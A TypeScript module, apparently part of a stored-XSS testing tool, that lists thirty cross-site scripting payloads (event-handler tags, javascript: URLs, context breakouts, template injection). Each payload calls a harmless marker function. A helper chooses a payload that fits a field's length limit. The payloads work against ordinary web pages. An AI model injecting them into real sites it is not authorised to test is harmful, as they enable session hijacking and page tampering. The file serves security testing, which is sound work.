/** Texts that run `stored()` where they are taken for a page, an address or a template; the short ones fit any field. */
export const SCRIPTS: readonly string[] = [
  '<img src=x onerror=stored()>',
  '<svg onload=stored()>',
  '<script>stored()</script>',
  '"><img src=x onerror=stored()>',
  "'><svg/onload=stored()>",
  '</script><script>stored()</script>',
  '</textarea><img src=x onerror=stored()>',
  '</title><svg onload=stored()>',
  '<iframe srcdoc="<script>parent.stored()</script>">',
  '<iframe src="javascript:parent.stored()"></iframe>',
  '<body onload=stored()>',
  '<input autofocus onfocus=stored()>',
  '<details open ontoggle=stored()>',
  '<video src=x onerror=stored()></video>',
  '<audio src=x onerror=stored()>',
  '<object data="javascript:stored()"></object>',
  '<embed src="javascript:stored()">',
  '<a href="javascript:stored()">x</a>',
  'javascript:stored()',
  'JaVaScRiPt:stored()//',
  'data:text/html,<script>stored()</script>',
  '<math><mtext><img src=x onerror=stored()></mtext></math>',
  "<style>@import 'javascript:stored()'</style>",
  '<svg><script>stored()</script></svg>',
  '&lt;img src=x onerror=stored()&gt;',
  "{{constructor.constructor('stored()')()}}",
  '<form><button formaction="javascript:stored()">x</form>',
  '<noscript><p title="</noscript><img src=x onerror=stored()>">',
  '<meta http-equiv=refresh content="0;url=javascript:stored()">',
  '<img src=1 srcset=x onerror=stored()//',
]

/** What a stored text is known by wherever it is shown. */
export const MARK = 'stored()'

/** The script of that number; of those that fit where it does not, and cut off where none does. */
export function scriptFor(number: number, most: number): string {
  const at = number % SCRIPTS.length
  const inTurn = [...SCRIPTS.slice(at), ...SCRIPTS.slice(0, at)]
  return inTurn.find(({ length }) => length <= most) ?? (SCRIPTS[1] ?? '').slice(0, most)
}
